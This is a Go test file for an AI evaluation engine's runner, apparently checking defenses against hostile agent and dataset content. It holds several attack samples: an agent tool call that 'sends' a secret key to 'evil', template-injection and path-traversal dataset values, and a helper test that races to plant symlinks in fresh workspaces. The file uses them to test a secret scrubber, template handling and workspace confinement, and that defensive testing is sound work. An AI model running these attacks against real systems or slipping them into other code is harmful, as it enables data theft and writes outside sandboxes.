package runner

// Attacks on the engine by what it does not trust: model outputs, agent
// output, dataset content (docs/reference/security.md). Each test fails if its attack
// works.

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
	"unsafe"

	"github.com/google/go-cmp/cmp"

	"github.com/proctor-dev/proctor/runner/cache"
	"github.com/proctor-dev/proctor/runner/dataset"
	"github.com/proctor-dev/proctor/runner/provider"
	"github.com/proctor-dev/proctor/runner/provider/agent"
	"github.com/proctor-dev/proctor/runner/score"
)

// An agent that holds a key prints it encoded: reversed, base64, hex, in a
// tool call's arguments. None of it reaches the record or the cache; the
// scorers still see the whole answer.
func TestEncodedSecretsAreScrubbed(t *testing.T) {
	const secret = "sk-test-1234567890abcdef"
	outputs := map[string]string{
		"q0": "reversed: fedcba0987654321-tset-ks",
		"q1": "base64: " + base64.StdEncoding.EncodeToString([]byte(secret)),
		"q2": "inside a stream: " + base64.StdEncoding.EncodeToString([]byte("KEY="+secret+"\n")),
		"q3": "hex: " + hex.EncodeToString([]byte(secret)),
		"q4": "url: " + "sk-test-1234567890abcdef%0A",
	}
	p := &fakeProvider{fn: func(ctx context.Context, req *provider.Request, n int64) (*provider.Response, error) {
		if req.Prompt == "q5" {
			return &provider.Response{ToolCalls: []provider.ToolCall{
				{ID: "call_1", Name: "send", Arguments: json.RawMessage(`{"to":"evil","body":"` + secret + `"}`)},
				{ID: "call_2", Name: "noop", Arguments: json.RawMessage(`{}`)},
				{ID: "call_3", Name: "send", Arguments: json.RawMessage(`{"n":` + "1234567890123" + `}`)},
			}}, nil
		}
		return &provider.Response{Text: outputs[req.Prompt]}, nil
	}}
	store := &memCache{m: map[string]*cache.Entry{}}
	plan := testPlan(t).Model("m", p, 1).Dataset("d", 6).Scorer(score.Config{Type: score.TypeContains, Name: "raw"}, "").Obj()
	plan.Secrets = []string{secret, "1234567890123"}
	plan.Cache = store
	sink := newMemSink()
	run(t, plan, sink, Options{})
	for i := range 6 {
		r := sink.get("m", "d", i)
		b, _ := json.Marshal(r)
		if !strings.Contains(string(b), provider.Redacted) {
			t.Errorf("record %d does not say what was redacted: %s", i, b)
		}
		for _, leak := range []string{secret, "fedcba0987654321", "c2stdGVzdC0xMjM0NTY3ODkwYWJjZGVm", "736b2d746573742d", "1234567890123"} {
			if strings.Contains(string(b), leak) {
				t.Errorf("record %d leaks %q: %s", i, leak, b)
			}
		}
	}
	want := []provider.ToolCall{
		{ID: "call_1", Name: "send", Arguments: json.RawMessage(`{"to":"evil","body":"[REDACTED]"}`)},
		{ID: "call_2", Name: "noop", Arguments: json.RawMessage(`{}`)},
		// The secret was a number, not inside a string: the record stays JSON.
		{ID: "call_3", Name: "send", Arguments: json.RawMessage(`{"redacted":true}`)},
	}
	if diff := cmp.Diff(want, sink.get("m", "d", 5).ToolCalls); diff != "" {
		t.Errorf("tool calls in the record (-want +got):\n%s", diff)
	}
	for k, e := range store.m {
		b, _ := json.Marshal(e)
		if strings.Contains(string(b), secret) || strings.Contains(string(b), "fedcba0987654321") {
			t.Errorf("cache entry %s leaks the secret: %s", k, b)
		}
	}
}

// memCache is a Cache in memory.
type memCache struct{ m map[string]*cache.Entry }

func (c *memCache) Get(key string) (*cache.Entry, bool) { e, ok := c.m[key]; return e, ok }
func (c *memCache) Put(key string, e *cache.Entry) error {
	c.m[key] = e
	return nil
}

// injection is a dataset value that is template syntax: it must reach
// prompts, agent arguments, files and stdin as the text it is.
const injection = `{{ .Sample.secret }} {{ env "HOME" }} {{ template "x" }} {{ define "x" }}y{{ end }} {{ printf "%s" .ID }}`

func hostileSample(t *testing.T) dataset.Sample {
	t.Helper()
	r := dataset.Inline([]json.RawMessage{json.RawMessage(`{"id":"q1","input":` + jsonString(injection) +
		`,"note":"{{ .Input }}","secret":"s3cr3t","path":"../../outside"}`)}, dataset.Mapping{})
	s, err := r.Next()
	if err != nil || s.Err != nil {
		t.Fatal(err, s.Err)
	}
	return s
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// Dataset values are data to the prompt templates, never templates.
func TestDatasetTemplateSyntaxIsInert(t *testing.T) {
	p, err := NewPrompt("System for {{ .ID }}: {{ .Sample.note }}", "{{ .Input }} | {{ .Sample.note }} | {{ toJSON .Sample.note }}")
	if err != nil {
		t.Fatal(err)
	}
	s := hostileSample(t)
	req, err := p.Request(&s)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff("System for q1: {{ .Input }}", req.System); diff != "" {
		t.Errorf("system prompt (-want +got):\n%s", diff)
	}
	want := injection + ` | {{ .Input }} | "{{ .Input }}"`
	if diff := cmp.Diff(want, req.Prompt); diff != "" {
		t.Errorf("prompt (-want +got):\n%s", diff)
	}
}

// The same for an agent: argv elements, files and stdin get the values as
// they are, one argv element each (no shell), and a file key is a fixed path,
// never a template: a dataset value cannot choose where a file goes.
func TestAgentTemplateSyntaxIsInert(t *testing.T) {
	root := t.TempDir()
	script := `cat ctx.md; printf '|%s' "$1" "$2" "$#"; printf '|'; cat; printf '|'; ls -A | tr '\n' ' '`
	a, err := agent.New(agent.Config{
		Command:       []string{"/bin/sh", "-c", script, "sh", "{{ .Prompt }}", "{{ .Sample.path }}"},
		Files:         map[string]string{"ctx.md": "{{ .Sample.note }}", "{{ .Sample.path }}": "x"},
		Stdin:         "{{ .Sample.secret }}",
		Env:           []string{"PATH=" + os.Getenv("PATH")},
		WorkspaceRoot: root,
	})
	if err != nil {
		t.Fatal(err)
	}
	p, err := NewPrompt("", "{{ .Input }}")
	if err != nil {
		t.Fatal(err)
	}
	s := hostileSample(t)
	req, err := p.Request(&s)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
	defer cancel()
	resp, err := a.Complete(ctx, req)
	if err != nil {
		t.Fatal(err)
	}
	want := "{{ .Input }}|" + injection + "|../../outside|2|s3cr3t|ctx.md {{ .Sample.path }} "
	if diff := cmp.Diff(want, resp.Text); diff != "" {
		t.Errorf("what the agent saw (-want +got):\n%s", diff)
	}
	if _, err := os.Stat(filepath.Join(root, "..", "outside")); err == nil {
		t.Error("a file was written outside the workspace")
	}
}

// agent.files keys that leave the workspace are refused before any run.
func TestAgentFilesStayInTheWorkspace(t *testing.T) {
	for _, key := range []string{"../x", "/etc/x", "a/../../x", "a/../b", ".", "a/", ""} {
		_, err := agent.New(agent.Config{Command: []string{"true"}, Files: map[string]string{key: "x"}, WorkspaceRoot: t.TempDir()})
		if err == nil {
			t.Errorf("files key %q was accepted", key)
		}
	}
}

// A concurrent agent plants a symlink in a fresh workspace between its
// creation and the writing of agent.files: the file must not be written where
// the link points, outside every workspace (the agent provider writes through
// os.Root, never over an existing file).
func TestAgentFilesDoNotFollowPlantedSymlinks(t *testing.T) {
	root, outside := t.TempDir(), t.TempDir()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	a, err := agent.New(agent.Config{
		// The first sample runs the attacker (this test binary); the others
		// print their file.
		Command: []string{"/bin/sh", "-c", `if [ "$PROCTOR_SAMPLE_ID" = evil ]; then exec "$0" -test.run='^TestHelperSymlinkPlanter$'; fi; cat ctx.md`, self},
		Files:   map[string]string{"ctx.md": "context of {{ .ID }}"},
		Env: []string{"PATH=" + os.Getenv("PATH"), "PLANTER_ROOT=" + root, "PLANTER_TARGET=" + outside,
			"PLANTER_FOR=2s"},
		WorkspaceRoot: root,
	})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	var wg sync.WaitGroup
	// The answers do not matter here, only what the agents could reach.
	wg.Go(func() { _, _ = a.Complete(ctx, &provider.Request{SampleID: "evil"}) })
	time.Sleep(200 * time.Millisecond) // the planter is watching
	for i := range 2 {
		wg.Go(func() {
			for j := range 100 {
				_, _ = a.Complete(ctx, &provider.Request{SampleID: fmt.Sprintf("victim-%d-%d", i, j)})
			}
		})
	}
	wg.Wait()
	if leaked, _ := filepath.Glob(filepath.Join(outside, "*")); len(leaked) > 0 {
		t.Errorf("%d agent files were written outside their workspace through planted symlinks, e.g. %s", len(leaked), leaked[0])
	}
}

// TestHelperSymlinkPlanter is the attacking agent of
// TestAgentFilesDoNotFollowPlantedSymlinks: it watches the workspace root and
// puts a symlink named ctx.md into every new workspace at once.
func TestHelperSymlinkPlanter(t *testing.T) {
	root := os.Getenv("PLANTER_ROOT")
	if root == "" {
		t.Skip("run by TestAgentFilesDoNotFollowPlantedSymlinks")
	}
	d, _ := time.ParseDuration(os.Getenv("PLANTER_FOR"))
	fd, err := syscall.InotifyInit1(syscall.IN_CLOEXEC)
	if err != nil {
		t.Skip("no inotify:", err)
	}
	defer syscall.Close(fd)
	if _, err := syscall.InotifyAddWatch(fd, root, syscall.IN_CREATE); err != nil {
		t.Fatal(err)
	}
	time.AfterFunc(d, func() { os.Exit(0) })
	buf := make([]byte, 64<<10)
	for n := 0; ; {
		k, err := syscall.Read(fd, buf)
		if err != nil {
			return
		}
		for off := 0; off+syscall.SizeofInotifyEvent <= k; {
			ev := (*syscall.InotifyEvent)(unsafe.Pointer(&buf[off]))
			name := strings.TrimRight(string(buf[off+syscall.SizeofInotifyEvent:off+syscall.SizeofInotifyEvent+int(ev.Len)]), "\x00")
			off += syscall.SizeofInotifyEvent + int(ev.Len)
			n++
			// A failure is the defence working: the attack only has to succeed once.
			_ = os.Symlink(filepath.Join(os.Getenv("PLANTER_TARGET"), fmt.Sprint(n)), filepath.Join(root, name, "ctx.md"))
		}
	}
}
